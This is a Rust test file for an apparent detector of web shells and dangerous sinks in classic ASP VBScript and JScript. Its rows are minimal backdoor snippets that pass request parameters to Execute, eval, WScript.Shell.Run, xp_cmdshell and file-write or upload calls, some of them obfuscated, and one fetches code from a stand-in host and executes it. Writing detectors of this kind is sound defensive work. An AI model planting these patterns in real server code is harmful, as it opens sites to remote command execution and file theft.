//! TEST-ONLY pieces: each row is inert and as short as one source and one way out allow.

use crate::language::Language;
use crate::library::check::{check, hits};

#[test]
fn code() {
    check(
        Language::VbScript,
        &[
            (r#"Eval Request("a")"#, "Code Eval Parameter:a Whole"),
            (r#"eval(Request.Item("a"))"#, "Code Eval Parameter:a Whole"),
            (r#"Execute(Request.Form("a"))"#, "Code Execute Parameter:a Whole"),
            (r#"ExecuteGlobal Request.QueryString"#, "Code ExecuteGlobal Parameter: Whole"),
            (r#"Execute Session("a")"#, "Code Execute = "),
            (r#"Session("b") = Request.Cookies("a")("b") : Execute Session("b")"#, "Code Execute Cookie:a Whole"),
            (
                r#"Execute "x = 1 : Execute Request(""b"")""#,
                "Code Execute = x = 1 : Execute Request(\"b\"); Code Execute Parameter:b Whole",
            ),
            (
                r#"ExecuteGlobal StrReverse(")""a""(tseuqer etucexe")"#,
                "Code ExecuteGlobal = execute request(\"a\") decoded; Code Execute Parameter:a Whole",
            ),
            ("x = Eval(\"1 + 1\")\nIf x = 2 Then Execute Request(\"a\")", "Code Eval = 1 + 1; Code Execute Parameter:a Whole"),
            (
                "Set s = CreateObject(\"MSScriptControl.ScriptControl\")\ns.Language = \"VBScript\"\ns.AddCode Request(\"a\")\ns.ExecuteStatement Request(\"b\")",
                "Code ScriptControl.AddCode Parameter:a Whole; Code ScriptControl.ExecuteStatement Parameter:b Whole",
            ),
            (
                "Execute d(\"%103%103\")\nFunction d(s)\ns = Split(s, \"%\")\nFor i = 1 To UBound(s)\nd = d & Chr(s(i) - 2)\nNext\nEnd Function",
                "Code Execute = ee",
            ),
            (
                "For Each k In Request.Form\nExecute k & \"=Request.Form(\"\"\" & k & \"\"\")\"\nNext\nCreateObject(\"WScript.Shell\").Run c",
                "Code Execute Parameter: Part; Command WScript.Shell.Run Parameter: Part",
            ),
            ("u = u & \"x = 1\"\nExecute u", "Code Execute = x = 1"),
            ("Function g\ng = Request(\"a\")\nEnd Function\nExecute g", "Code Execute Parameter:a Whole"),
            (
                "Class A\nPrivate Sub Class_Terminate\nExecute Request(\"a\")\nEnd Sub\nEnd Class\nSet x = New A",
                "Code Execute Parameter:a Whole",
            ),
            (
                "Class K\nPrivate v\nProperty Let C(x)\nv = x\nEnd Property\nSub Go\nExecute v\nEnd Sub\nEnd Class\nSet o = New K\no.C = Request(\"a\")\no.Go",
                "Code Execute Parameter:a Whole",
            ),
            ("Sub f(x)\nx = Request(\"a\")\nEnd Sub\nf y\nExecute y", "Code Execute Parameter:a Whole"),
            ("Sub f(ByVal x)\nx = Request(\"a\")\nEnd Sub\nf y\nExecute y", "Code Execute = "),
            (
                r#"Set d = CreateObject("Microsoft.XMLDOM") : d.load Request : Execute d.documentElement.text"#,
                "Code Execute Body: Whole",
            ),
            (r#"Server.Execute Request("a")"#, "Include Server.Execute Parameter:a Whole"),
            ("For Each k In Request.Form\nExecute Request.Form(k)\nNext", "Code Execute Parameter: Whole"),
            (
                "Function f(x)\nf = Replace(x, \"|\", vbCrLf)\nEnd Function\nExecute f(Request(\"a\"))",
                "Code Execute Parameter:a Whole",
            ),
            (
                "t = \"\"\nd = Request(\"a\")\nFor i = 1 To Len(d) Step 2\nt = t & Chr(CLng(\"&H\" & Mid(d, i, 2)) Xor 5)\nNext\nExecute t",
                "Code Execute Parameter:a Whole",
            ),
        ],
    );
    check(
        Language::Jscript,
        &[
            (r#"eval(Request.Form("a") + "");"#, "Code eval Parameter:a Whole"),
            (r#"eval(String(Request("a")));"#, "Code eval Parameter:a Whole"),
            (r#"new Function(Request("a"))();"#, "Code Function Parameter:a Whole"),
            (r#"this["ev" + "al"](Request.Item("a").Item);"#, "Code eval Parameter:a Whole computed"),
            (r#"[]["filter"]["constructor"](Request("a").Item)();"#, "Code Function Parameter:a Whole"),
            (r#"var e = eval; e(unescape(Request("a")));"#, "Code eval Parameter:a Whole decoded"),
            (r#"var a = []; a.push(Request("a")); eval(a.join(""));"#, "Code eval Parameter:a Whole"),
            (
                r#"eval(unescape("eval(Request%28'a'%29)"));"#,
                "Code eval = eval(Request('a')) decoded; Code eval Parameter:a Whole",
            ),
            (r#"var o = {c: Request("a")}; o.d = o.c; eval(o.d);"#, "Code eval Parameter:a Whole"),
            (r#"var o = {E: eval}; o.E(Request("a"));"#, "Code eval Parameter:a Whole computed"),
            (r#"setTimeout(Request("a"), 1);"#, "Code setTimeout Parameter:a Whole"),
            (r#"eval.call(null, Request("a"));"#, "Code eval Parameter:a Whole"),
        ],
    );
}

#[test]
fn commands() {
    check(
        Language::VbScript,
        &[
            (r#"CreateObject("WScript.Shell").Run Request("a")"#, "Command WScript.Shell.Run Parameter:a Whole"),
            (
                r#"x = Server.CreateObject("WSCRIPT.SHELL.1").Exec("cmd.exe /c " & Request.Form("a")).StdOut.ReadAll()"#,
                "Command WScript.Shell.Exec Parameter:a Whole",
            ),
            (
                r#"Set o = Server.CreateObject("WScr" & "ipt.Sh" & "ell") : o.Run "ping " & Request("a")"#,
                "Command WScript.Shell.Run Parameter:a Part computed",
            ),
            (
                r#"CreateObject("Shell.Application").ShellExecute "cmd.exe", "/c " & Request("a")"#,
                "Command Shell.Application.ShellExecute Parameter:a Whole also",
            ),
            (
                r#"GetObject("winmgmts:").Get("Win32_Process").Create Request("a"), Null, Null, p"#,
                "Command Win32_Process.Create Parameter:a Whole",
            ),
            (
                r#"CreateObject(Request("o")).Run Request("a")"#,
                "Invoke CreateObject Parameter:o Whole; Command WScript.Shell.Run Parameter:a Whole",
            ),
            (
                r#"CreateObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run Request("a")"#,
                "Command WScript.Shell.Run Parameter:a Whole",
            ),
            (
                r#"CreateObject("WScript.Shell").RegWrite Request("a"), Request("b")"#,
                "Change WScript.Shell.RegWrite Parameter:a Whole",
            ),
        ],
    );
    check(
        Language::Jscript,
        &[(
            r#"new ActiveXObject("WScript.Shell").Run("cmd /c " + Request("a"));"#,
            "Command WScript.Shell.Run Parameter:a Whole",
        )],
    );
}

#[test]
fn files() {
    check(
        Language::VbScript,
        &[
            (
                r#"Set f = CreateObject("Scripting.FileSystemObject") : Set t = f.CreateTextFile(Request("f"), True) : t.Write Request("a")"#,
                "Write FileSystemObject.CreateTextFile Parameter:f Whole; Write TextStream.Write Parameter:f Whole also",
            ),
            (
                r#"CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("x.asp")).WriteLine Request("a")"#,
                "Write TextStream.Write Parameter:a Whole also served",
            ),
            (
                r#"Response.Write CreateObject("Scripting.FileSystemObject").OpenTextFile(Request("f")).ReadAll"#,
                "Read FileSystemObject.OpenTextFile Parameter:f Whole",
            ),
            (
                r#"Set s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.Write Request.BinaryRead(Request.TotalBytes) : s.SaveToFile Server.MapPath("x")"#,
                "Upload ADODB.Stream.SaveToFile Body: Whole also",
            ),
            (
                r#"b = Request.BinaryRead(Request.TotalBytes) : p = MidB(b, InStrB(b, ChrB(13)) + 2) : Set s = CreateObject("ADODB.Stream") : s.Write p : s.SaveToFile Request.QueryString("f"), 2"#,
                "Upload ADODB.Stream.SaveToFile Parameter:f Whole also",
            ),
            (
                r#"Set s = CreateObject("ADODB.Stream") : s.LoadFromFile Request("f") : Response.BinaryWrite s.Read"#,
                "Read ADODB.Stream.LoadFromFile Parameter:f Whole",
            ),
            (
                r#"CreateObject("Scripting.FileSystemObject").DeleteFile Request("f")"#,
                "Change FileSystemObject.DeleteFile Parameter:f Whole",
            ),
            (
                "For Each f In CreateObject(\"Scripting.FileSystemObject\").GetFolder(Request(\"d\")).Files\nResponse.Write f.Name\nNext",
                "List FileSystemObject.GetFolder Parameter:d Whole",
            ),
            (
                r#"CreateObject("Scripting.FileSystemObject").GetFile(Request("f")).Attributes = 0"#,
                "Change File.Attributes Parameter:f Whole",
            ),
            (
                r#"CreateObject("MSWC.Tools").ProcessForm Request("f"), Request("t")"#,
                "Write Tools.ProcessForm Parameter:f Whole also",
            ),
            (
                r#"Set x = CreateObject("Microsoft.XMLHTTP") : x.Open "GET", Request("u"), False : x.Send : Set s = CreateObject("ADODB.Stream") : s.Write x.responseBody : s.SaveToFile Request("f"), 2"#,
                "Fetch XMLHTTP.Send Parameter:u Whole; Write ADODB.Stream.SaveToFile Parameter:f Whole also",
            ),
            (r#"Set u = CreateObject("Persits.Upload") : u.Save Server.MapPath("x")"#, "Upload Upload.Save Upload: Whole also"),
        ],
    );
}

#[test]
fn networks_and_databases() {
    check(
        Language::VbScript,
        &[
            (
                r#"Set c = CreateObject("ADODB.Connection") : c.Open Request("c") : c.Execute Request("q")"#,
                "Sql ADODB.Connection.Execute Parameter:q Whole also",
            ),
            (
                r#"Set c = CreateObject("ADODB.Connection") : c.Execute "exec master..xp_cmdshell '" & Request("q") & "'""#,
                "Sql ADODB.Connection.Execute Parameter:q Part; Command xp_cmdshell Parameter:q Part",
            ),
            (
                r#"CreateObject("ADODB.Connection").Execute "exec xp_cmdshell 'dir'""#,
                "Sql ADODB.Connection.Execute = exec xp_cmdshell 'dir'",
            ),
            (
                r#"Set r = CreateObject("ADODB.Recordset") : r.Open "select " & Request("q"), c"#,
                "Sql ADODB.Recordset.Open Parameter:q Part",
            ),
            (
                r#"Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0") : x.Open "GET", Request("u"), False : x.Send : Execute x.responseText"#,
                "Fetch XMLHTTP.Send Parameter:u Whole; Code Execute Remote: Whole",
            ),
            (
                r#"Set x = CreateObject("Microsoft.XMLHTTP") : x.Open "POST", Request("u"), False : x.Send Request("d")"#,
                "Tunnel XMLHTTP.Send Parameter:u Whole also",
            ),
        ],
    );
}

#[test]
fn ways_through() {
    check(
        Language::VbScript,
        &[
            (
                r#"Set d = CreateObject("Scripting.Dictionary") : d.Add "x", Request("a") : d("y") = "1" : Execute d("y") : Execute d("x")"#,
                "Code Execute = 1; Code Execute Parameter:a Whole",
            ),
            (
                r#"Set r = New RegExp : r.Pattern = "x" : r.Global = True : Execute r.Replace(Request("a"), "")"#,
                "Code Execute Parameter:a Whole",
            ),
            (
                r#"Set e = CreateObject("Microsoft.XMLDOM").createElement("b") : e.DataType = "bin.base64" : e.Text = "eCA9IDE=" : Execute e.nodeTypedValue"#,
                "Code Execute = x = 1 decoded",
            ),
            (
                r#"Set r = CreateObject("ADODB.Recordset") : r.Fields.Append "m", 201, 9 : r.Open : r.AddNew : r("m").AppendChunk Request.BinaryRead(9) : Execute r("m")"#,
                "Code Execute Body: Whole",
            ),
            (r#"Execute Request.ServerVariables("HTTP_X")"#, "Code Execute Header:HTTP_X Whole"),
            (r#"Execute Request.ServerVariables("LOCAL_ADDR")"#, "Code Execute = "),
            (r#"Execute "x = " & CLng(Request("a"))"#, "Code Execute = x = …"),
        ],
    );
}

#[test]
fn computations() {
    for (source, expected) in [
        (r#"Chr(97) & ChrW(98) & Chr("&H63")"#, "abc"),
        (r#"Mid("abcdef", 2, 3) & Left("xyz", 1) & Right("xyz", 1)"#, "bcdxz"),
        (r#"Replace("aXbxc", "x", "-", 1, -1, 1)"#, "a-b-c"),
        (r#"Join(Split("a|b", "|"), "+")"#, "a+b"),
        (r#"StrReverse("cba") & UCase("d") & LCase("E") & Trim(" f ")"#, "abcDef"),
        (r#"Hex(255) & Oct(8) & Asc("A") & Len("abc") & InStr("abc", "c")"#, "FF106533"),
        (r#"Unescape("%61%u0062") & Escape("a b")"#, "aba%20b"),
        (r#"String(3, "a") & Space(1) & Array("x", "y")(1)"#, "aaa y"),
        (r#"CStr(CLng("&H10") + CInt("2")) & UBound(Array(1, 2))"#, "181"),
        (r#"Chr(Asc("b") Xor 3)"#, "a"),
        (r#"Chr(("&H" & "63") - "2")"#, "a"),
    ] {
        let source = format!("CreateObject(\"WScript.Shell\").Run {source}");
        let found = hits(Language::VbScript, &source).join("; ");
        let found = found.replace(" decoded", "").replace(" computed", "");
        assert_eq!(found, format!("Command WScript.Shell.Run = {expected}"), "{source}");
    }
    for (source, expected) in [
        (r#"String.fromCharCode(97, 98)"#, "ab"),
        (r#""cba".split("").reverse().join("")"#, "abc"),
        (r#""abcdef".substr(1, 2) + "abcdef".substring(3, 1) + "abcdef".slice(-1)"#, "bcbcf"),
        (r#""a1b2".replace(/[0-9]/g, "-")"#, "a-b-"),
        (r#""ab".replace(/./g, function (c) { return String.fromCharCode(c.charCodeAt(0) + 1); })"#, "bc"),
        (r#"unescape("%61") + decodeURIComponent("%62") + parseInt("0x10")"#, "ab16"),
        (r#"["a", "b"].concat(["c"]).join("") + "d".concat("e") + (255).toString(16)"#, "abcdeff"),
        (r#"(function (a) { return a + "x"; })("y")"#, "yx"),
        (r#"eval("'a' + 'b'")"#, "ab"),
        (r#"new Function("a", "return a + 'z'")("y")"#, "yz"),
        (r#""abc".charAt(1) + "abc"["length"] + "abc".indexOf("c")"#, "b32"),
    ] {
        let source = format!("new ActiveXObject(\"WScript.Shell\").Run({source});");
        let found = hits(Language::Jscript, &source);
        let found = found.iter().find(|hit| hit.starts_with("Command")).cloned().unwrap_or_default();
        let found = found.replace(" decoded", "").replace(" computed", "");
        assert_eq!(found, format!("Command WScript.Shell.Run = {expected}"), "{source}");
    }
}

/// VBScript hands on variables themselves; what a property gives is only a value.
#[test]
fn properties_are_handed_on_by_value() {
    let found = hits(
        Language::VbScript,
        "Set x = CreateObject(\"MSXML2.XMLHTTP\") : x.Open \"GET\", \"http://a.invalid/\", False : x.Send : Execute f(x.responseText)\nFunction f(b)\nf = b\nEnd Function",
    );
    assert!(found.iter().any(|hit| hit.starts_with("Code Execute Remote")), "{found:?}");
}

/// The numbers of characters of two bytes are those of their code page, and signed.
#[test]
fn wide_characters_and_their_numbers() {
    check(
        Language::VbScript,
        &[
            ("Execute Chr(-15133) & \"x\"", "Code Execute = \u{4f60}x"),
            ("Execute Chr(50403)", "Code Execute = \u{4f60}"),
            ("Execute \"x\" & Asc(\"\u{4f60}\") & AscW(\"\u{4f60}\") & Asc(\"a\")", "Code Execute = x-151332032097"),
            ("Execute Chr(Asc(\"\u{4f60}\"))", "Code Execute = \u{4f60}"),
        ],
    );
}
